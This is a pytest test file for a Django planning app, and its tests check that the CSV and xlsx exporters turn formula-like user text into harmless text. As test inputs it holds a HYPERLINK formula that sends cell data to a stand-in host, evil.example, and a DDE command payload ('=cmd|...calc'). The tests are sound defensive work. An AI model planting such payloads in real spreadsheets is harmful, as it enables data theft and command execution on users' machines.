"""Exports write user text as text: no spreadsheet runs '=...' (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from helhedsplan.lib.spreadsheets import csv_safe, csv_writer, looks_like_formula, xlsx_text_only
from helhedsplan.plans.models import Plan
from helhedsplan.reports.exporters import export_url
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'


def _cells(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


@pytest.mark.parametrize(
    ("exporter", "query"),
    [
        ("aktivitetsskema", {}),
        ("leverancemaaling", {"aar": 2018}),
    ],
)
def test_activity_exports_write_a_formula_like_name_as_text(
    plan: Plan, client_for: Callable[[str], Client], exporter: str, query: dict[str, int]
) -> None:
    # An activity named what an attacker would type, planned and held in 2018.
    area = plan.areas.first()
    activity = factories.ActivityFactory(plan=plan, name=EVIL)
    factories.PlannedQuantityFactory(activity=activity, area=area, year=2018)
    factories.RegistrationFactory(activity=activity, area=area, date=date(2018, 5, 14))
    response = client_for("secretariat").get(export_url(plan, exporter, "xlsx", **query))
    cells = _cells(response.content)
    assert (EVIL, "s") in cells
    assert not [v for v, kind in cells if kind == "f"]


def test_scorecard_export_writes_a_formula_like_title_as_text(
    plan: Plan, client_for: Callable[[str], Client]
) -> None:
    factories.TargetFactory(criterion=factories.SuccessCriterionFactory(plan=plan, title=EVIL))
    url = export_url(plan, "succeskriterier", "xlsx", aar=2016)
    cells = _cells(client_for("secretariat").get(url).content)
    assert (EVIL, "s") in cells
    assert not [v for v, kind in cells if kind == "f"]


def test_xlsx_keeps_numbers_as_numbers_and_formula_text_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1", "-3", -3, 2.5, "+45 12 34 56", "\tx", "almindelig tekst"])
    xlsx_text_only(book)
    out = io.BytesIO()
    book.save(out)
    cells = _cells(out.getvalue())
    assert cells == [
        ("=1+1", "s"),
        ("-3", "s"),
        (-3, "n"),
        (2.5, "n"),
        ("+45 12 34 56", "s"),
        ("\tx", "s"),
        ("almindelig tekst", "s"),
    ]
    reread = load_workbook(io.BytesIO(out.getvalue())).active
    assert reread is not None and reread["A1"].quotePrefix


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("-1.234,5", "-1.234,5"),
        (-3, -3),
        ("Motalavej", "Motalavej"),
    ],
)
def test_csv_safe(value: object, written: object) -> None:
    assert csv_safe(value) == written
    assert looks_like_formula(value) == (written != value)


def test_csv_writer_prefixes_a_quote() -> None:
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerow(["=cmd|'/C calc'!A0", "ok", -1])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        "'=cmd|'/C calc'!A0",
        "ok",
        "-1",
    ]
